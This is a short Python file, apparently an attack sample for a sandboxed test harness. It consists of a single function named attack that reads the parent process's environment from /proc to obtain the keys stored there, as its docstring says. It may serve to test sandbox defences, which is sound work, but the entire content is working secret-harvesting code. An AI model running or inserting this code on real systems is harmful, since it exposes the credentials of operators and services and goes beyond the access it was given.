"""Reads the worker's environment, where the keys are."""

import os


def attack(world):
    return open(f"/proc/{os.getppid()}/environ").read()
